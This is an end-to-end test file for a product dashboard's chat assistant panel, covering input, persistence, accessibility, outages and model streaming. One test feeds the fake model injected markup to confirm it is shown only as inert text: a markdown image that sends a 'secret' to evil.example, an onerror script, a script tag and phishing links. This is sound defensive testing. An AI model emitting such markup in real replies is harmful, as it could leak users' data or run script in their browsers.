import type { Locator, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { type FakeModel, startFakeModel } from '#test/fakes/language-model.ts'
import { rowsOf } from '#test/product/invariants.ts'
import { type Product, startProduct } from '#test/product/product.ts'
import { violationsOf } from './axe.ts'
import { openBrowser, type Person, waitForHydration } from './person.ts'

let product: Product
let browser: Awaited<ReturnType<typeof openBrowser>>
let member: Person
let page: Page
let consoleErrors: string[]
let panel: Locator
let field: Locator

beforeAll(async () => {
  product = await startProduct({ DEMO: '1' })
  browser = await openBrowser()
  member = await browser.newPerson()
  await member.page.goto(product.demoLink())
  await member.page.waitForURL('**/dashboard')
  await member.page.goto('about:blank')
})
afterAll(async () => {
  await browser?.close()
  await product?.stop()
})

/** Opens a page for a signed-in user without a conversation. */
async function openDashboard(person: Person, { url, database }: Product) {
  await rowsOf(database.ownerUrl, 'delete from chat_messages')
  const tab = await person.openPage()
  await tab.page.goto(`${url}/dashboard`)
  await waitForHydration(tab.page)
  return tab
}

const log = () => panel.getByRole('log')
const questions = () => log().getByText('You:')
const isAtEnd = () =>
  log().evaluate(
    (list) =>
      list.scrollHeight - list.scrollTop - list.clientHeight < 2 && list.scrollHeight > list.clientHeight,
  )
async function violationsIn(target: Page, within: string): Promise<string[]> {
  return (await violationsOf(target, { within })).map(({ id, html }) => `${id}: ${html}`)
}
/** Dispatches the window event that opens or closes the panel. */
const sendEvent = (detail?: { open: boolean }) =>
  page.evaluate((open) => void window.dispatchEvent(new CustomEvent('open-chat', { detail: open })), detail)

async function openPanel(): Promise<void> {
  await page.getByRole('button', { name: 'Ask the assistant' }).click()
  await panel.waitFor()
}

/** Opens the panel and asks a question. */
async function askAboutScores(): Promise<void> {
  await openPanel()
  await field.fill('What does a score of 75 mean?')
  await field.press('Enter')
  await log().getByText('one-in-three').waitFor()
}

describe('A22 the assistant', () => {
  beforeEach(async () => {
    ;({ page, consoleErrors } = await openDashboard(member, product))
    panel = page.getByRole('dialog', { name: 'Assistant' })
    field = panel.getByLabel('Message')
  })
  afterEach(() => page.close())

  test('opens at the bottom right in the specified size with a greeting', async () => {
    await page.getByRole('button', { name: 'Ask the assistant' }).click()
    await panel.waitFor()
    expect(await panel.boundingBox()).toMatchObject({ width: 384, height: 500 })
    expect(await log().getAttribute('aria-live')).toBe('polite')
    expect(await panel.locator('#welcome').innerText()).toContain('Ninefold assistant')
    await panel.getByText('Answers from the documentation and your contacts').waitFor()
  })

  test('sends with Enter, breaks lines with Shift+Enter, and sends no blank messages', async () => {
    await openPanel()
    await field.fill('   ')
    await field.press('Enter')
    await panel.getByRole('button', { name: 'Send' }).click()
    expect(await questions().count()).toBe(0)
    await field.fill('What does a score of 75')
    await field.press('Shift+Enter')
    await field.pressSequentially('mean?  ')
    expect(await field.inputValue()).toBe('What does a score of 75\nmean?  ')
    expect(await questions().count()).toBe(0)
    await field.press('Enter')
    await log().getByText('one-in-three chance of a signal-driven move').waitFor()
    expect(await log().getByText('What does a score of 75').last().innerText()).toBe(
      'What does a score of 75\nmean?',
    )
    await panel.getByText('From How the score works: What 75 means').waitFor()
    expect(await field.inputValue()).toBe('')
  })

  test('shows Thinking... and disables the input while it waits, and scrolls to the end with each message', async () => {
    await askAboutScores()
    const { promise: gate, resolve: openGate } = Promise.withResolvers<void>()
    // Delays the real response, so that the test can check the waiting state.
    await page.route('**/api/chat', async (route) => {
      await gate
      await route.continue()
    })
    await field.fill('Who won the world cup?')
    await panel.getByRole('button', { name: 'Send' }).click()
    await log().getByText('Thinking...').waitFor()
    expect([
      await field.isDisabled(),
      await panel.getByRole('button', { name: 'Send' }).isDisabled(),
    ]).toEqual([true, true])
    expect(await isAtEnd()).toBe(true)
    openGate()
    await log().getByText("I don't know.").waitFor()
    await page.unroute('**/api/chat')
    expect(await log().getByText('Thinking...').count()).toBe(0)
    expect(await isAtEnd()).toBe(true)
    await page.waitForFunction(() => document.activeElement?.tagName === 'TEXTAREA')
  })

  test('opens and closes by event, button and Escape without losing the conversation', async () => {
    await askAboutScores()
    await sendEvent({ open: false })
    await panel.waitFor({ state: 'hidden' })
    await sendEvent()
    await panel.waitFor()
    expect(await questions().count()).toBe(1)
    await panel.getByRole('button', { name: 'Close' }).click()
    await panel.waitFor({ state: 'hidden' })
    await sendEvent({ open: true })
    await page.waitForFunction(() => document.activeElement?.tagName === 'TEXTAREA')
    await page.keyboard.press('Escape')
    await panel.waitFor({ state: 'hidden' })
  })

  test('answers whom to call with links to the contacts', async () => {
    await openPanel()
    await panel.getByRole('button', { name: 'Who should I call this week?' }).click()
    await log().getByText('Call these first').waitFor()
    const firstLink = log().getByRole('link').first()
    const name = await firstLink.innerText()
    await firstLink.click()
    await page.waitForURL(/contact=/)
    await page.getByRole('dialog', { name }).waitFor()
    await page.keyboard.press('Escape')
    await page.getByRole('dialog', { name }).waitFor({ state: 'hidden' })
  })

  test('shows the conversation after a reload and in a second tab until a new one starts', async () => {
    await openPanel()
    await panel.getByRole('button', { name: 'Who should I call this week?' }).click()
    await log().getByText('Call these first').waitFor()
    await page.reload()
    await waitForHydration(page)
    const secondTab = await page.context().newPage()
    await secondTab.goto(`${product.url}/tasks`)
    for (const tab of [page, secondTab]) {
      await tab.getByRole('button', { name: 'Ask the assistant' }).click()
      await tab.getByRole('log').getByText('Call these first').waitFor()
    }
    await secondTab.close()
    await panel.getByRole('button', { name: 'New conversation' }).click()
    await log().getByText('Call these first').waitFor({ state: 'detached' })
    await page.reload()
    await page.getByRole('button', { name: 'Ask the assistant' }).click()
    await panel.getByRole('button', { name: 'What changed since Monday?' }).waitFor()
    expect(await questions().count()).toBe(0)
  })

  test('queues a question until earlier messages are loaded, and shows its answer once', async () => {
    const { promise: gate, resolve: openGate } = Promise.withResolvers<void>()
    const requestMethods: string[] = []
    const tab = await page.context().newPage()
    await tab.route('**/api/chat', async (route) => {
      requestMethods.push(route.request().method())
      if (route.request().method() === 'GET') await gate
      await route.continue()
    })
    await tab.goto(`${product.url}/tasks`)
    await tab.getByRole('button', { name: 'Ask the assistant' }).click()
    await tab.getByLabel('Message').fill('What does a score of 75 mean?')
    await tab.keyboard.press('Enter')
    await tab.getByRole('log').getByText('Thinking...').waitFor()
    expect(requestMethods).toEqual(['GET'])
    openGate()
    await tab.getByRole('log').getByText('one-in-three').waitFor()
    expect(await tab.getByRole('log').getByText('You:').count()).toBe(1)
    await tab.close()
  })

  test('is a full-width sheet on a phone', async () => {
    await page.setViewportSize({ width: 390, height: 844 })
    await openPanel()
    const box = await panel.boundingBox()
    expect([box?.x, box?.width, (box?.y ?? 0) + (box?.height ?? 0)]).toEqual([0, 390, 844])
  })

  test.each(['light', 'dark'])('A33 has no accessibility violations in the %s theme', async (theme) => {
    await askAboutScores()
    await page.evaluate((value) => {
      document.documentElement.dataset.theme = value
    }, theme)
    expect(await violationsIn(page, 'aside')).toEqual([])
  })

  test('A36 reports an outage and names support', async () => {
    await openPanel()
    await product.kill()
    try {
      await field.fill('Are you there?')
      await field.press('Enter')
      await log()
        .getByText(
          "I'm having trouble responding right now. Please try again or contact support at support@ninefold.example.",
        )
        .waitFor()
      expect(consoleErrors.join()).toContain('The assistant could not answer')
      expect(await field.isEnabled()).toBe(true)
    } finally {
      await product.restart()
    }
  })
})

describe('A22 the assistant with a connected model', () => {
  let fake: FakeModel
  let modelProduct: Product
  let user: Person
  let chatPage: Page
  let foreignRequests: string[]
  beforeAll(async () => {
    fake = await startFakeModel()
    modelProduct = await startProduct({ DEMO: '1', LLM_BASE_URL: fake.url, LLM_MODEL: 'test-model' })
    user = await browser.newPerson()
    await user.page.goto(modelProduct.demoLink())
    await user.page.waitForURL('**/dashboard')
  })
  beforeEach(async () => {
    fake.reset()
    foreignRequests = []
    chatPage = (await openDashboard(user, modelProduct)).page
    chatPage.on('request', (request) => {
      if (!request.url().startsWith(modelProduct.url)) foreignRequests.push(request.url())
    })
    chatPage.on('dialog', (dialog) => {
      foreignRequests.push(dialog.message())
      void dialog.dismiss()
    })
    await chatPage.getByRole('button', { name: 'Ask the assistant' }).click()
  })
  afterEach(() => chatPage.close())
  afterAll(async () => {
    await modelProduct?.stop()
    await fake?.stop()
  })
  const askQuestion = async (question: string) => {
    await chatPage.getByLabel('Message').fill(question)
    await chatPage.keyboard.press('Enter')
  }
  const chatLog = () => chatPage.getByRole('log')

  test('streams the answer and names its source', async () => {
    await chatPage.getByText('Answered by test-model. We check the numbers.').waitFor()
    const { promise: gate, resolve: openGate } = Promise.withResolvers<void>()
    fake.answer({ pieces: ['A score of 75 is a one-in-three chance. It', gate, ' is not 75 percent.'] })
    await askQuestion('What does a score of 75 mean?')
    const partialReply = chatLog().locator('[aria-hidden="true"]', {
      hasText: 'A score of 75 is a one-in-three chance.',
    })
    await partialReply.waitFor()
    await chatLog().getByText('Thinking...').waitFor()
    expect(await chatPage.getByLabel('Message').isDisabled()).toBe(true)
    openGate()
    await chatLog().getByText('A score of 75 is a one-in-three chance. It is not 75 percent.').waitFor()
    await chatLog().getByRole('link', { name: 'How the score works: What 75 means' }).waitFor()
    expect(await partialReply.count()).toBe(0)
  })

  test('Trust 15 shows injected markup as text that runs no script and sends no request', async () => {
    fake.answer(
      'Steps. ![x](https://evil.example/p.png?d=secret) <img src="https://evil.example/i" onerror="alert(document)"> <script>alert(document)</script> See [the plan](https://evil.example/login) or evil.com/pay.',
    )
    await askQuestion('What is a playbook?')
    await chatLog().getByText('onerror="alert(document)"').waitFor()
    await chatLog().getByText('See the plan or').waitFor()
    expect(await chatLog().locator('img, script, iframe').count()).toBe(0)
    const links = await chatLog()
      .getByRole('link')
      .evaluateAll((elements) => elements.map((link) => (link as HTMLAnchorElement).href))
    expect(links.filter((link) => !link.startsWith(`${modelProduct.url}/documentation/`))).toEqual([])
    expect(await chatLog().innerText()).not.toContain('evil')
    expect(foreignRequests).toEqual([])
  })

  test('shows the template answer when the model invents a number or fails', async () => {
    fake.answer('Call everybody. It works in 97 percent of cases.')
    await askQuestion('Who should I call this week?')
    await chatLog().getByText('Call these first').waitFor()
    expect(await chatLog().innerText()).not.toMatch(/Call everybody|97 percent/)
    fake.answer({ pieces: ['A playbook. It'], end: 'cut' }, { status: 500 })
    await askQuestion('What is a playbook?')
    await chatLog().getByText("We couldn't reach the language model").waitFor()
    expect(foreignRequests).toEqual([])
  })
})

test('A37 the free account page explains the account and opens the sign-in dialog', async () => {
  const visitor = await browser.newPerson()
  const response = await visitor.page.request.get(`${product.url}/free-signup`)
  expect(await response.text()).toContain('Start with a free account')
  await visitor.page.goto(`${product.url}/free-signup`)
  await waitForHydration(visitor.page)
  expect(await violationsIn(visitor.page, 'main')).toEqual([])
  await visitor.page.getByRole('button', { name: 'Create a free account' }).click()
  await visitor.page.getByRole('dialog').getByLabel('Email').waitFor()
  await visitor.page.goto(`${product.url}/get-started`)
  await visitor.page.waitForURL(`${product.url}/#pricing`)
  expect(visitor.consoleErrors).toEqual([])
})
